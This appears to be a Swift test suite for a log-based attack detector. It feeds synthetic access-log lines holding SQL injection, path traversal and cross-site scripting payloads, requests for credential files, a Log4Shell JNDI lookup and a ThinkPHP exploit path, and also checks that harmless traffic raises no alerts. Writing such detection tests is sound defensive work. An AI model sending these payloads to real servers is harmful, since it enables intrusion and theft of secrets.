import Foundation
import Testing

@Suite("Attacks as access logs show them")
struct AttackLogTests {
    /// Lines of one second from one address, a target each.
    static func log(_ targets: [String], method: String = "GET", status: Int = 404, agent: String = "Mozilla/5.0") -> [UInt8] {
        Array(
            targets.map {
                "198.51.100.1 - - [01/Mar/2026:10:00:01 +0000] \"\(method) \($0) HTTP/1.1\" \(status) 5 \"-\" \"\(agent)\"\n"
            }.joined().utf8)
    }

    static let cases: [(String, [UInt8])] = [
        (
            "SQL injection",
            log(
                [
                    "/a?id=1%27+OR+1%3D1--+-", "/a?id=1)%20AND%201234=(SELECT%20COUNT(*)%20FROM%20x)", "/a?id=1%20AND%20SLEEP(5)",
                    "/a?id=-1%20uNiOn%20sElEcT%201,2,3", "/a?id=1%27%20ORDER%20BY%205--%20-", "/a?id=1%27%20AND%20%27a%27=%27a",
                    "/a?id=1;WAITFOR%20DELAY%20%270:0:5%27", "/a?id=1||UTL_INADDR.get_host_name(x)", "/a?id=1%20or%20'x'='x'",
                    "/a?id=1%20or%202>1%23", "/a?id=extractvalue(1,concat(0x7e,version()))", "/a?id=1%2Bunion%2Bselect%2B1",
                ], status: 200)
        ),
        ("Path traversal", log(["/files/.%2e/.%2e/x", "/....//....//etc/x", "/x?f=..%5C..%5Cwindows%5Cwin.ini"], status: 400)),
        (
            "Cross-site scripting",
            log([
                "/%3Cscript%3Ealert(1)%3C/script%3E", "/?a=%22%3E%3Cimg+src%3Dx+onerror%3Dprompt(1)%3E", "/?a=<svg/onload=alert`1`>",
                "/?a=javascript%3Aalert(document.domain)", "/?a=%3CIFRAME%20SRC%3D%22x%22%3E",
            ])
        ),
        ("Sensitive files asked for", log(["/.env", "/.aws/credentials", "/actuator/env", "/phpinfo.php"])),
        ("Brute force over HTTP", log(Array(repeating: "/wp-login.php", count: 6), method: "POST", status: 200)),
        ("Brute force over HTTP", log(Array(repeating: "/api/session", count: 6), method: "POST", status: 403)),
        ("Server tried as a proxy", log(["example.com:443"], method: "CONNECT", status: 400)),
        ("Security scanner", log(["/"], status: 200, agent: "Fuzz Faster U Fool v2.1.0-dev")),
        ("Known exploit tried", log(["/"], status: 200, agent: "${${lower:j}ndi:ldap://x.example/a}")),
        ("Known exploit tried", log(["/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"])),
        ("Web shells looked for", log(["/c99.php", "/wp-content/uploads/wso.php"])),
        ("Authors enumerated", log((1...5).map { "/?author=\($0)" }, status: 301)),
        ("Administration pages looked for", log(["/phpmyadmin/", "/pma/", "/manager/html", "/wp-admin/", "/administrator/"])),
        ("Scanning for paths", log((0..<11).map { "/nothing\($0)" })),
        ("Crawling", log((0..<41).map { "/articles/\($0)" }, status: 200)),
    ]

    @Test("each is called by its name and by no other, and every line counts", arguments: cases)
    func named(title: String, log: [UInt8]) throws {
        let lines = log.count { $0 == UInt8(ascii: "\n") }
        let found = try ImportedLog.alerts(log)
        #expect(found == [title: ["198.51.100.1": lines]])
    }

    @Test("people who read, sign in, search and lose their way are nobody's attack")
    func harmless() throws {
        let logs = [
            Self.log((0..<10).map { "/missing/\($0)" }), Self.log(Array(repeating: "/login", count: 14), method: "POST", status: 200),
            Self.log((0..<40).map { "/page/\($0)?q=select+all+and+union+or+drop" }, status: 200),
            Self.log((0..<200).map { "/img/\($0).png" }), Self.log(["/wp-admin/", "/admin/", "/.env", "/c99.php"]),
            Self.log(["/?q=%3Cscript%3E", "/?q=1%27--", "/../x", "/../y"]),
            Self.log(Array(repeating: "/api/orders", count: 60), method: "POST", status: 201, agent: "python-httpx/0.27"),
            Self.log((0..<30).map { "/search?q=rock+%27n%27+roll+and+\($0)+more&sort=-date&from=2026-01-01" }, status: 200),
        ]
        for log in logs { #expect(try ImportedLog.alerts(log) == [:]) }
    }
}
